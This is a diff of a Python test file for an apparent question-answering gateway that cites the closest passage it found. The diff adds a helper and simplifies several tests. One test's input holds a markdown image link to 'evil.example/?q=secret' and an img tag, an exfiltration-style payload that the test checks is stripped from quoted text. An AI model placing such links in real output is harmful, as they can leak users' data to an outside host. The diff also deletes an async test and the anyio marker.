@@ -20,8 +20,6 @@ from tests.unit.gateway.reasoners import unsure
 from tests.unit.gateway.test_chat_clients import complete
 from tests.wire import send_raw
 
-pytestmark = pytest.mark.anyio
-
 IN_WORDS = f'The closest I found: "{PAGES}" ({BOOK}).'
 CATHEDRAL = (
     "St Paul's Cathedral stands on Ludgate Hill. "
@@ -35,6 +33,13 @@ def page(text: str, title: str = "St Paul's Cathedral", score: float = 0.9) -> E
     return Evidence(text, title, "https://pages.example/st-pauls", CitationKind.PAGE, score)
 
 
+def closest_in(question: str, *evidence: Evidence) -> Citation:
+    """The closest passage, of which there must be one."""
+    closest = closest_of(question, evidence)
+    assert closest is not None
+    return closest
+
+
 @pytest.fixture
 async def world(services: FakeServices) -> AsyncIterator[World]:
     async with gateway_before(services, unsure()) as made:
@@ -42,8 +47,7 @@ async def world(services: FakeServices) -> AsyncIterator[World]:
 
 
 def test_closest_is_the_best_passage_with_whole_sentences_of_it() -> None:
-    closest = closest_of("How tall is the dome?", (page(CATHEDRAL), page("The dome is tall.", score=0.2)))
-    assert closest is not None
+    closest = closest_in("How tall is the dome?", page(CATHEDRAL), page("The dome is tall.", score=0.2))
     assert closest.snippet == CATHEDRAL
     assert "Its dome is 111 m tall." in closest.sentence
     assert closest.sentence in CATHEDRAL
@@ -53,23 +57,20 @@ def test_closest_is_the_best_passage_with_whole_sentences_of_it() -> None:
 
 
 def test_long_sentence_is_cut_after_a_word() -> None:
-    closest = closest_of("How tall?", (page("tall houses and towers " * 50),))
-    assert closest is not None
+    closest = closest_in("How tall?", page("tall houses and towers " * 50))
     assert set(closest.sentence.split()) == {"tall", "houses", "and", "towers"}
 
 
 def test_closest_chunk_is_shown_with_the_rest_of_its_passage() -> None:
     chunks = tuple(page_evidence(Passage(CATHEDRAL, "St Paul's Cathedral", "", None)))
     assert all(len(chunk.text) < len(CATHEDRAL) for chunk in chunks)
-    closest = closest_of("How tall is the dome?", chunks)
-    assert closest is not None
+    closest = closest_in("How tall is the dome?", *chunks)
     assert closest.snippet == CATHEDRAL
 
 
 def test_passage_of_a_long_page_is_cut_around_the_closest_sentence() -> None:
     long = "Nothing is said here about it. " * 500
-    closest = closest_of("How tall is the dome?", (page(f"{long}Its dome is 111 m tall. {long}"),))
-    assert closest is not None
+    closest = closest_in("How tall is the dome?", page(f"{long}Its dome is 111 m tall. {long}"))
     assert closest.sentence in closest.snippet
     assert len(closest.snippet) <= 1_500
 
@@ -100,7 +101,7 @@ def test_question_without_its_photo_needs_a_passage_that_shares_two_words(
 
 @pytest.mark.parametrize("reason", [Reason.LANGUAGE, Reason.NOT_HEARD, Reason.NOTHING_INDEXED])
 def test_refusal_of_the_question_itself_has_no_closest_passage(reason: Reason) -> None:
-    closest = closest_of("How tall?", (page(CATHEDRAL),))
+    closest = closest_in("How tall?", page(CATHEDRAL))
     assert refusal(reason, Route.RAG, closest=closest).closest is None
     assert refusal(Reason.OVERLOADED, Route.RAG, closest=closest).closest is closest
 
@@ -119,13 +120,13 @@ def test_markup_and_addresses_of_a_page_are_removed() -> None:
     hostile = (
         'Tall ![x](https://evil.example/?q=secret) <img src="//evil.example"> "tower" at https://a.example/b.'
     )
-    closest = closest_of("How tall?", (page(hostile, title="A [link](https://evil.example)"),))
+    closest = closest_in("How tall?", page(hostile, title="A [link](https://evil.example)"))
     text = in_words(replace(refusal(Reason.MODEL_UNSURE, Route.RAG), closest=closest))
     assert text == "The closest I found: \"Tall x 'tower' at a.example\" (A link)."
 
 
 def test_spoken_passage_is_short_and_has_the_words_of_the_question() -> None:
-    closest = closest_of("How tall is the dome?", (page(CATHEDRAL),))
+    closest = closest_in("How tall is the dome?", page(CATHEDRAL))
     text = in_words(
         replace(refusal(Reason.MODEL_UNSURE, Route.RAG), closest=closest),
         "How tall is the dome?",
@@ -133,15 +134,6 @@ def test_spoken_passage_is_short_and_has_the_words_of_the_question() -> None:
     )
     assert "Its dome is 111 m tall." in text
     assert len(text) < SPOKEN_CHARS + 60
-
-
-async def test_refusal_has_the_passage_and_its_trace_does_not(world: World) -> None:
-    answer = await world.ask()
-    assert (answer.abstained, answer.citations, answer.confidence) == (True, [], 0.0)
-    assert answer.closest is not None
-    assert (answer.closest.snippet, answer.closest.title) == (PAGES, BOOK)
-    assert PAGES not in answer.answer
-    assert PAGES not in (await world.client.get(f"/traces/{answer.trace_id}")).text
 
 
 async def test_chat_quotes_it_and_the_next_turn_knows_that_it_was_a_refusal(world: World) -> None:
